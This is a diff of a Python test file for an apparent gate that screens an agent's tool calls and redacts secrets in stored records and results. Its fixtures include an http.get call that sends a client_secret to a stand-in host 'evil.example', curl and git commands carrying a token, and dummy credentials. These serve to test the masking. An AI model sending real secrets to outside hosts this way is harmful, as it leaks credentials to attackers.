@@ -4,7 +4,8 @@ from __future__ import annotations
 
 import hmac
 import json
-from base64 import b64encode
+import re
+from base64 import b64decode, b64encode, urlsafe_b64encode
 from collections.abc import Mapping
 from hashlib import sha256
 from pathlib import Path
@@ -16,7 +17,7 @@ from gated import MARK, TOKEN, bodies, code, everything_stored, gate_of, grown, 
 from capsule.calls import Context, Source, ToolCall, ToolResult
 from capsule.canon import Json, canonical
 from capsule.errors import ToolError
-from capsule.gate import now_ms, open_journal
+from capsule.gate import Step, now_ms, open_journal
 from capsule.report import Report
 
 POLICY = """
@@ -123,6 +124,8 @@ def test_a_rule_can_read_in_the_clear_but_not_where_another_forbids_it(workdir: 
 
 
 BEARER = "Bearer " + TOKEN[4:30] + "x1"
+PLAIN = "Sup3rS3cretPw"
+SPREAD = "\0".join(TOKEN)
 
 CALLS: dict[str, ToolCall] = {
     "a path": read(f"docs/{TOKEN}"),
@@ -144,6 +147,17 @@ CALLS: dict[str, ToolCall] = {
     "a command": ToolCall(tool="shell.run", args={"command": ["git", "clone", f"https://{TOKEN}@example.com/x"]}),
     "a command of no rule": ToolCall(tool="shell.run", args={"command": ["curl", TOKEN]}),
     "an environment": ToolCall(tool="shell.run", args={"command": ["git"], "env": {"TOKEN": TOKEN}}),
+    "a URL's password of no kind": ToolCall(tool="http.get", args={"url": f"https://bob:{PLAIN}@example.com/"}),
+    "a parameter": ToolCall(tool="http.get", args={"url": f"https://example.com/?access_token={PLAIN}"}),
+    "a parameter of no rule": ToolCall(tool="http.get", args={"url": f"https://evil.example/?client_secret={PLAIN}"}),
+    "a path that is cut": read(f"other/{'x' * 170}/{TOKEN}"),
+    "a command that is cut": ToolCall(tool="shell.run", args={"command": ["curl", "x" * 170, TOKEN]}),
+    "a wrong argument that is cut": read("docs/clean", encoding=f"{'x' * 40} {TOKEN}"),
+    "a path with NULs": read(f"docs/{SPREAD}"),
+    "a content with NULs": write("out/new", f"key = {SPREAD}"),
+    "a wrong argument with NULs": read("docs/clean", encoding=SPREAD),
+    "an unknown argument with NULs": ToolCall(tool="fs.read", args={"path": "docs/clean", SPREAD: 1}),
+    "a tool with NULs": ToolCall(tool=SPREAD),
     "standard input": ToolCall(tool="shell.run", args={"command": ["git"], "stdin": TOKEN}),
 }
 
@@ -153,13 +167,150 @@ def test_e2_a_secret_in_a_call_reaches_neither_disk_nor_answer(workdir: Path, db
     with gate_of(workdir, POLICY) as gate:
         result = gate.call(CALLS[name])
     first = next(record for record in ("intent", "refused") if record in kinds(db))
-    stored = everything_stored(db)
-    for secret in (TOKEN, BEARER.removeprefix("Bearer "), b64encode(LINE.encode()).decode()[12:40]):
-        if name == "a content as base64" and secret != TOKEN:
-            continue  # base64 in text is text: only a tool that says so has it opened
+    stored = without_nuls(everything_stored(db))
+    for secret in (TOKEN[:16], PLAIN, BEARER.removeprefix("Bearer "), b64encode(LINE.encode()).decode()[12:40]):
         assert secret.encode() not in stored
-    assert TOKEN not in str(result).replace(str(result.output), "")
-    assert "raw_mac" in bodies(db, first)[0] or name == "a content as base64"
+    assert not any(secret in without_nuls(str(result).encode()).decode() for secret in (TOKEN[:16], PLAIN))
+    assert "raw_mac" in bodies(db, first)[0]
+
+
+def without_nuls(data: bytes) -> bytes:
+    """Also those that are spelled, in a message or in JSON, or in a message in JSON."""
+    return re.sub(rb"\0|\\+(?:x00|u0000)", b"", data)
+
+
+CREDENTIALS = ["Bearer correcthorsebatterystaple", "Basic YWRtaW46YWRtaW4=", "hunter2-and-more", 47114711]
+
+
+@pytest.mark.parametrize(
+    "policy", [POLICY, POLICY.replace("type: object}}}", "type: object, additionalProperties: false}}}"), ""]
+)
+@pytest.mark.parametrize("name", ["Authorization", "authorization", "COOKIE", "Cookie "])
+@pytest.mark.parametrize("value", CREDENTIALS)
+def test_e2_what_a_call_names_a_credential_is_masked(
+    workdir: Path, db: Path, policy: str, name: str, value: Json
+) -> None:
+    args: Mapping[str, Json] = {"url": "https://example.com", "headers": {name: value}}
+    with gate_of(workdir, *([policy] if policy else [])) as gate:
+        result = gate.call(ToolCall(tool="http.get", args=args))
+    secret = str(value).rpartition(" ")[2]
+    assert secret.encode() not in everything_stored(db)
+    assert secret not in str(result)
+    recorded = bodies(db, "intent" if "intent" in kinds(db) else "refused")[0]
+    assert "raw_mac" in recorded
+    assert "⟦redacted:" in str(recorded["args"])
+
+
+def test_a_constraint_that_a_credential_does_not_meet_does_not_quote_it(workdir: Path, db: Path) -> None:
+    policy = (
+        POLICY + "  - {action: deny, tool: http.get, constraints: {headers: {properties: {cookie: {enum: [a=b]}}}}}"
+    )
+    headers: Json = {"cookie": "hunter2-and-more"}
+    call = ToolCall(tool="http.get", args={"url": "https://example.com", "headers": headers})
+    with gate_of(workdir, policy) as gate:
+        assert "hunter2" not in str(gate.call(call))
+    assert b"hunter2" not in everything_stored(db)
+
+
+def test_a_handle_is_no_credential(workdir: Path, db: Path) -> None:
+    args: Mapping[str, Json] = {"url": "https://example.com", "headers": {"Authorization": "secret:GITHUB"}}
+    with gate_of(workdir, POLICY) as gate:
+        gate.call(ToolCall(tool="http.get", args=args))
+    (refused,) = bodies(db, "refused")
+    assert refused["args"] == args
+    assert "raw_mac" not in refused
+
+
+ENCODED = b64encode(LINE.encode()).decode()
+NOT_QUITE_BASE64 = {
+    "a line break": ENCODED + "\n",
+    "lines": ENCODED[:20] + "\r\n " + ENCODED[20:],
+    "no padding": b64encode(f"{LINE}.".encode()).decode().rstrip("="),
+    "a letter too many": ENCODED.rstrip("=") + "A" * (1 + ENCODED.count("=")),
+    "in two pieces": b64encode(b"x").decode() + ENCODED,
+    "of URLs": urlsafe_b64encode(f"?>?>{LINE}".encode()).decode(),
+}
+
+
+@pytest.mark.parametrize("kind", NOT_QUITE_BASE64)
+def test_e2_base64_that_is_refused_is_masked_all_the_same(workdir: Path, db: Path, kind: str) -> None:
+    with gate_of(workdir, POLICY) as gate:
+        result = gate.call(write("out/new", NOT_QUITE_BASE64[kind], encoding="base64"))
+    assert code(result) == 2002
+    (refused,) = bodies(db, "refused")
+    assert "raw_mac" in refused
+    _appears_nowhere(db, result)
+
+
+def test_base64_is_opened_wherever_it_stands(workdir: Path, db: Path) -> None:
+    """In an output that holds several, and of two secrets in one output each has its own number."""
+    other = TOKEN[:-1] + "9"
+    parts: list[Json] = [
+        {"encoding": "base64", "body": b64encode(text.encode()).decode(), "content": "AA=="} for text in (LINE, other)
+    ]
+    with gate_of(workdir, MADE, tool=made(lambda args, context: {"parts": parts, "text": TOKEN})) as gate:
+        result = gate.call(ToolCall(tool="made.tool"))
+    second = MARK.replace(":1", ":2")
+    masked: list[Json] = [
+        {"encoding": "base64", "body": b64encode(text.encode()).decode(), "content": "AA=="}
+        for text in (f"key = {MARK}", second)
+    ]
+    assert result.output == {"parts": masked, "text": MARK}
+    assert len(result.findings) == 3
+    _appears_nowhere(db, result)
+
+
+UTF_16 = {
+    "le": LINE.encode("utf-16-le"),
+    "be": LINE.encode("utf-16-be"),
+    "marked": b"\xff\xfe" + LINE.encode("utf-16-le"),
+    "32": LINE.encode("utf-32-le"),
+}
+
+
+@pytest.mark.parametrize("more", [{}, {"encoding": "utf-8"}, {"encoding": "base64"}])
+@pytest.mark.parametrize("offset", [0, 1, 2, 3])
+@pytest.mark.parametrize("kind", UTF_16)
+def test_e2_utf_16_hides_no_secret(workdir: Path, db: Path, kind: str, offset: int, more: dict[str, Json]) -> None:
+    (workdir / "docs/wide").write_bytes(UTF_16[kind])
+    with gate_of(workdir, POLICY) as gate:
+        result = gate.call(ToolCall(tool="fs.read", args={"path": "docs/wide", "offset": offset, **more}))
+    if code(result) == 2003:
+        return  # it was to be text, and is none
+    output = result.output
+    assert isinstance(output, Mapping)
+    content = str(output["content"])
+    assert output["encoding"] == more.get("encoding", "base64")
+    assert TOKEN.encode() not in without_nuls(content.encode() if "utf-8" in more.values() else b64decode(content))
+    assert b64encode(TOKEN.encode("utf-16-le"))[4:40] not in everything_stored(db)
+    assert TOKEN.encode() not in without_nuls(everything_stored(db))
+    assert (output["sha256"], "raw_mac" in bodies(db, "outcome")[0]) == (None, True)
+    with gate_of(workdir, POLICY) as gate:
+        assert code(gate.call(write("out/new", content, encoding=str(output["encoding"])))) == 1009
+
+
+def test_e2_the_name_of_a_step_is_masked_in_every_record(workdir: Path, db: Path) -> None:
+    policy = POLICY + "  - {action: ask, tool: fs.write, constraints: {path: {pattern: ./ask/*}}}"
+    step = Step(id=TOKEN, index=0)
+    with gate_of(workdir, policy) as gate:
+        results = [gate.call(call, step=step) for call in (read("docs/clean"), read("other/x"), write("ask/x"))]
+        gate.reject(read("docs/clean"), ToolError(2002, "no"), step=step)
+        gate.wait(step, 1)
+        gate.skip([(step, "fs.read")])
+    assert kinds(db)[1:-1] == [
+        "intent",
+        "outcome",
+        "refused",
+        "question",
+        "answer",
+        "refused",
+        "refused",
+        "wait",
+        "skipped",
+    ]
+    for kind in ("intent", "refused", "question", "wait"):
+        assert {body["step"] for body in bodies(db, kind)} == {MARK}
+    _appears_nowhere(db, *results)
 
 
 def test_what_is_written_is_the_real_value(workdir: Path) -> None:
